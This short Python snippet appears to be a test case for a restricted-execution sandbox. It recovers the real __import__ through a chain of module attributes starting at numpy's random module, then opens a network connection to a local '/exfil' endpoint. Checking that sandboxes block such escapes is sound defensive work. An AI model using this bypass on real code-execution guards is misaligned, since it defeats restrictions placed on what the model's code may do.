# attempts: urllib.request.urlopen('http://127.0.0.1:PORT/') with the real __import__
# effect: socket
B = np.random.bit_generator.re.enum.bltns
imp = B.getattr(B, '__import__')
ur = imp('urllib.request', fromlist=['urlopen'])
ur.urlopen('http://127.0.0.1:@@PORT@@/exfil', timeout=5)
